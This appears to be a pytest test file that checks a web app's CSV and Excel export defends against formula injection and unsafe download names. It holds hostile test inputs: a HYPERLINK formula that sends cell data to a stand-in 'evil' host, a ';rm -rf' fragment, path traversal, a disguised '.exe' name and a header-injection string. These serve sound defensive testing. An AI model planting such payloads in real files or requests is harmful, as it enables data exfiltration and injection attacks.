"""Writing tables: nothing is computed by a spreadsheet, and what is read back is what was written."""

import zipfile
from collections.abc import Sequence
from datetime import date
from decimal import Decimal
from io import BytesIO

import pytest
from flask import Flask
from hypothesis import given, settings
from hypothesis import strategies as st

from web.files.downloads import attachment, safe_name
from web.files.formulas import harmless_text, plain_text
from web.files.reading import read_table
from web.files.writing import Cell, csv_bytes, sheet_name, xlsx_bytes

ATTACKS = [
    '=HYPERLINK("http://evil?"&A1)',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "＝1+1",
    "'=1",
    "''@x",
    "+86 138 0000",
]
NAMES = [
    "张伟",
    "阿依古丽·买买提",
    "𠮷田",
    "㐀",
    "O'Brien",
    "Null",
    "None",
    "NaN",
    "true",
    "1e5",
    "ß/İ/ı",
    "_x0041_",
    " ' ",
]
texts = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00\ufeff\ufffe\uffff"), max_size=40)


def read_back(content: bytes) -> list[tuple[str, ...]]:
    return [row.cells for row in read_table(BytesIO(content)).rows]


@pytest.mark.parametrize("encoding", ["utf-8", "gb18030"])
def test_hostile_and_unusual_texts_come_back_equal_from_csv(encoding: str) -> None:
    rows: list[Sequence[Cell]] = [["#", "name"], *((number, text) for number, text in enumerate(ATTACKS + NAMES))]
    assert [cells[1] for cells in read_back(csv_bytes(rows, encoding))] == ATTACKS + NAMES


def test_hostile_and_unusual_texts_come_back_equal_from_excel() -> None:
    rows: list[Sequence[Cell]] = [["#", "name"], *((number, text) for number, text in enumerate(ATTACKS + NAMES))]
    assert [cells[1] for cells in read_back(xlsx_bytes({"names": rows}))] == ATTACKS + NAMES


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_cell_begins_a_formula(attack: str) -> None:
    assert harmless_text(attack)[0] == "'"
    content = xlsx_bytes({"names": [["name"], [attack]]})
    with zipfile.ZipFile(BytesIO(content)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")


def test_numbers_stay_numbers_and_telephone_numbers_stay_texts() -> None:
    rows: list[Sequence[Cell]] = [["kpi", "text", "phone"], [-5, "-5", "+86 138"], [2.5, "-2.5%", "+8613812345678"]]
    expected = [("-5", "-5", "+86 138"), ("2.5", "-2.5%", "+8613812345678")]
    assert read_back(csv_bytes(rows)) == expected
    assert read_back(xlsx_bytes({"s": rows})) == expected
    assert csv_bytes(rows).decode("utf-8-sig").splitlines()[1] == "-5,-5,'+86 138"


def test_every_kind_of_value_is_written() -> None:
    values: list[Cell] = [None, True, 7, 10**20, Decimal("12.50"), date(2026, 3, 5), 0.1]
    heading = [f"c{place}" for place in range(len(values))]
    assert read_back(csv_bytes([heading, values])) == [("", "true", "7", str(10**20), "12.50", "2026-03-05", "0.1")]
    assert read_back(xlsx_bytes({"s": [heading, values]}))[0] == (
        "",
        "true",
        "7",
        str(10**20),
        "12.5",
        "2026-03-05",
        "0.1",
    )


@pytest.mark.parametrize("number", [float("nan"), float("inf"), Decimal("NaN")])
def test_a_number_that_is_none_is_never_written(number: float | Decimal) -> None:
    with pytest.raises(ValueError, match="finite"):
        csv_bytes([["a"], [number]])
    with pytest.raises(ValueError, match="finite"):
        xlsx_bytes({"s": [["a"], [number]]})


@given(texts)
def test_making_a_text_harmless_can_always_be_undone(text: str) -> None:
    assert plain_text(harmless_text(text)) == text


@settings(max_examples=40)
@given(st.lists(st.tuples(texts, texts), min_size=1, max_size=5))
def test_any_texts_come_back_equal_from_both_formats(pairs: list[tuple[str, str]]) -> None:
    rows: list[Sequence[Cell]] = [["#", "a", "b"], *((number, *pair) for number, pair in enumerate(pairs))]
    expected = [(str(number), *pair) for number, pair in enumerate(pairs)]
    assert read_back(csv_bytes(rows)) == expected
    assert read_back(xlsx_bytes({"s": rows})) == expected


@given(st.text(max_size=40))
def test_a_sheet_name_is_one_that_excel_takes(name: str) -> None:
    assert 1 <= len(sheet_name(name)) <= 31
    xlsx_bytes({name: [["a"]]})


@pytest.mark.parametrize(
    "name",
    [
        "../../etc/x",
        "..\\x",
        "con",
        "a" * 300,
        "cv\u202efdp.exe",
        "\0",
        ";rm -rf",
        "",
        'x"\r\nSet-Cookie: a=b',
        "名单 2026",
    ],
)
def test_a_download_has_one_safe_name_in_one_header_line(app_on_sqlite: Flask, name: str) -> None:
    with app_on_sqlite.test_request_context():
        header = attachment(b"", name, "csv").headers["Content-Disposition"]
    assert header.isascii()
    assert not set("\r\n\0/\\") & set(header)
    assert header.count('"') == 2
    assert len(safe_name(name)) <= 105
    assert safe_name(name).casefold() != "con"
